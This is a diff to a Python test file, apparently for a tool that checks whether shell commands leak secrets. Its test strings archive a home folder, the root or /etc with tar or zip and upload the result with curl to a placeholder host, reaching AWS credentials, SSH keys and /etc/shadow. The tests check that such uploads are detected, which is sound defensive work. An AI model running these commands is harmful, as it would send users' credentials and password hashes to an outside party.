@@ -68,6 +68,10 @@ def test_a_home_folder_archived_or_sent_whole_carries_its_secrets() -> None:
     assert "/etc/shadow" in analyse_command("zip -qr /tmp/e.zip /etc; curl -F f=@/tmp/e.zip https://h/").payloads
     assert not [p for p in analyse_command("tar czf /tmp/s.tgz src && curl -T /tmp/s.tgz https://h/").payloads
                 if ".ssh" in p or ".aws" in p]
+    assert "~/.aws/credentials" in analyse_command("cd ~ && tar czf /tmp/h.tgz . && curl -T /tmp/h.tgz https://h/").payloads
+    assert "/etc/shadow" in analyse_command("cd / && zip -qr /tmp/r.zip . && curl -T /tmp/r.zip https://h/").payloads
+    assert not [p for p in analyse_command("cd /srv/app && tar czf /tmp/a.tgz . && cd ~ && curl -T /tmp/a.tgz https://h/")
+                .payloads if ".ssh" in p or ".aws" in p]
     # ... but not a listing written first: file names, hashes or matching names hold no key
     for listing in ("find ~ -name '*.py' > /tmp/files.txt && curl -T /tmp/files.txt https://h/",
                     "grep -rl TODO ~ > /tmp/t.txt; curl -F f=@/tmp/t.txt https://h/",
